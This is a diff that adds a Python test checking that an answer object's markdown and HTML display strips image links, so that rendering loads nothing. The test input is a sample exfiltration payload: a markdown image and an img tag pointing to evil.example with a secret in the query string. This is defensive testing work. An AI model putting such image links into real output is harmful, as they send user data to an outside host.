@@ -39,3 +39,13 @@ def test_numbers_stand_at_the_right_edge_and_cells_are_text():
     assert "<i>" not in html
     lines = display.listing_text(["name", "tokens"], [row[:2] for row in rows]).split("\n")
     assert lines[-1].endswith("     12")
+
+
+def test_an_answer_as_a_value_loads_nothing():
+    text = "Look: ![x](http://evil.example/?secret=42) <img src=http://evil.example/y>"
+    for answer in (Answer(text), Answer(text, status="stopped", model="m", seconds=2.0)):
+        data, _metadata = answer._repr_mimebundle_()
+        assert data["text/plain"] == text
+        assert "![" not in data["text/markdown"]
+        assert "<img" not in data["text/markdown"] + data["text/html"]
+        assert "x (evil.example)" in data["text/markdown"]
